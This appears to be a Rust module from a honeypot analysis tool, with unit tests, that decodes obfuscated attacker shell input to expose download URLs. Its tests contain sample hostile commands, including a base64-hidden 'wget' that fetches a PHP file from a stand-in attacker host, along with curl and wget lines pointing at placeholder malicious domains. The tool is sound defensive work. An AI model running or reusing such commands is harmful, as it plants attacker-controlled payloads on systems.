//! Reversal of attacker text obfuscation
//!
//! Honeypot shell input routinely hides download locations. The stages here
//! undo the techniques seen in the wild, in a fixed order:
//! 1. Base64 payloads (decoded text is appended, the token is kept)
//! 2. `\xHH` escape runs
//! 3. `\NNN` octal escape runs
//! 4. Defanged literals (`hxxp://`, `w{x}get`)
//! 5. `${...}` shell placeholders
//!
//! Every stage is total: a token that fails to decode is left as it was.

use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine;
use regex::{Captures, Regex};
use std::sync::LazyLock;

use crate::MIN_BASE64_RUN;

static BASE64_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(r"[A-Za-z0-9+/]{{{},}}={{0,2}}", MIN_BASE64_RUN)).unwrap()
});

static HEX_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\\x[0-9a-fA-F]{2})+").unwrap()
});

static OCTAL_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\\[0-7]{1,3})+").unwrap()
});

static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\{.*?\}").unwrap()
});

/// Shell `base64 -d` accepts unpadded input and sloppy trailing bits
const LENIENT_BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// Literal defanging tricks and their restored form
const DEFANGED: &[(&str, &str)] = &[("hxxp://", "http://"), ("w{x}get", "wget")];

/// Run the full deobfuscation pipeline over `text`.
///
/// Never fails. The result is a superset view of the input: base64 payloads
/// that mention `http` are appended, escape runs are collapsed in place.
pub fn deobfuscate(text: &str) -> String {
    let text = append_base64_payloads(text);
    let text = collapse_hex_escapes(&text);
    let text = collapse_octal_escapes(&text);
    let text = undefang(&text);
    strip_placeholders(&text)
}

/// Append the decoded form of every base64 run whose payload mentions `http`.
pub fn append_base64_payloads(text: &str) -> String {
    let mut out = text.to_string();

    for run in BASE64_RUN.find_iter(text) {
        let Some(decoded) = decode_base64(run.as_str()) else {
            continue;
        };
        if decoded.contains("http") {
            out.push(' ');
            out.push_str(&decoded);
        }
    }

    out
}

/// Replace each run of `\xHH` escapes with the UTF-8 text it encodes.
pub fn collapse_hex_escapes(text: &str) -> String {
    HEX_RUN
        .replace_all(text, |caps: &Captures| {
            decode_hex_run(&caps[0]).unwrap_or_else(|| caps[0].to_string())
        })
        .into_owned()
}

/// Replace each run of `\NNN` octal escapes with the characters it encodes.
pub fn collapse_octal_escapes(text: &str) -> String {
    OCTAL_RUN
        .replace_all(text, |caps: &Captures| {
            decode_octal_run(&caps[0]).unwrap_or_else(|| caps[0].to_string())
        })
        .into_owned()
}

/// Undo literal defanging (`hxxp://`, `w{x}get`).
pub fn undefang(text: &str) -> String {
    DEFANGED
        .iter()
        .fold(text.to_string(), |acc, (from, to)| acc.replace(from, to))
}

/// Remove `${...}` shell-variable placeholders.
pub fn strip_placeholders(text: &str) -> String {
    PLACEHOLDER.replace_all(text, "").into_owned()
}

fn decode_base64(token: &str) -> Option<String> {
    let bytes = LENIENT_BASE64.decode(token).ok()?;
    Some(utf8_ignoring_invalid(&bytes))
}

fn decode_hex_run(run: &str) -> Option<String> {
    let digits: String = run.split("\\x").collect();
    let bytes = hex::decode(digits).ok()?;
    Some(utf8_ignoring_invalid(&bytes))
}

fn decode_octal_run(run: &str) -> Option<String> {
    run.split('\\')
        .filter(|digits| !digits.is_empty())
        .map(|digits| {
            u32::from_str_radix(digits, 8)
                .ok()
                .and_then(char::from_u32)
        })
        .collect()
}

/// Decode bytes as UTF-8, dropping invalid sequences instead of replacing them.
fn utf8_ignoring_invalid(bytes: &[u8]) -> String {
    bytes.utf8_chunks().map(|chunk| chunk.valid()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_base64_payload_appended() {
        let cmd = "eval $(echo d2dldCAtTyAvdG93bi9lcG93bGRhdGUucGhwIGh0dHA6Ly93ZWIuYXR0YWNrZXIuY29tL3VwaGk= | base64 -d)";
        let out = append_base64_payloads(cmd);
        assert!(out.starts_with(cmd));
        assert!(out.ends_with("wget -O /town/epowldate.php http://web.attacker.com/uphi"));
    }

    #[test]
    fn test_base64_without_http_ignored() {
        // "hello world, nothing here"
        let cmd = "echo aGVsbG8gd29ybGQsIG5vdGhpbmcgaGVyZQ== | base64 -d";
        assert_eq!(append_base64_payloads(cmd), cmd);
    }

    #[test]
    fn test_base64_short_run_ignored() {
        // "http://a.io" without padding is 15 alphabet chars
        let cmd = "aHR0cDovL2EuaW8";
        assert_eq!(append_base64_payloads(cmd), cmd);
    }

    #[test]
    fn test_base64_invalid_length_skipped() {
        let cmd = "AAAAAAAAAAAAAAAAA";
        assert_eq!(append_base64_payloads(cmd), cmd);
    }

    #[test]
    fn test_hex_collapse() {
        let out = collapse_hex_escapes(r"echo -e '\x77\x67\x65\x74 \x68\x74\x74\x70'");
        assert_eq!(out, "echo -e 'wget http'");
    }

    #[test]
    fn test_hex_invalid_utf8_dropped() {
        let out = collapse_hex_escapes(r"a\xff\x41b");
        assert_eq!(out, "aAb");
    }

    #[test]
    fn test_octal_collapse() {
        let out = collapse_octal_escapes(r"printf '\150\164\164\160'");
        assert_eq!(out, "printf 'http'");
    }

    #[test]
    fn test_octal_single_digit() {
        assert_eq!(collapse_octal_escapes(r"x\101\0y"), "xA\0y");
    }

    #[test]
    fn test_undefang() {
        assert_eq!(undefang("w{x}get hxxp://bad.com"), "wget http://bad.com");
        assert_eq!(undefang("hxxps://left.alone"), "hxxps://left.alone");
    }

    #[test]
    fn test_strip_placeholders() {
        assert_eq!(strip_placeholders("ht${IFS}tp://a${x}.com/${y}z"), "http://a.com/z");
    }

    #[test]
    fn test_pipeline_order_hex_before_octal() {
        // \x5c is a backslash: the hex stage yields "\101" which the octal stage then decodes
        assert_eq!(deobfuscate(r"\x5c101"), "A");
    }

    #[test]
    fn test_placeholder_stripped_after_undefang() {
        let out = deobfuscate(r"curl h${a}xxp://\x65\x76\x69\x6c.com");
        assert_eq!(out, "curl hxxp://evil.com");
    }

    #[test]
    fn test_plain_text_untouched() {
        let cmd = "uname -a; cat /proc/cpuinfo";
        assert_eq!(deobfuscate(cmd), cmd);
    }
}
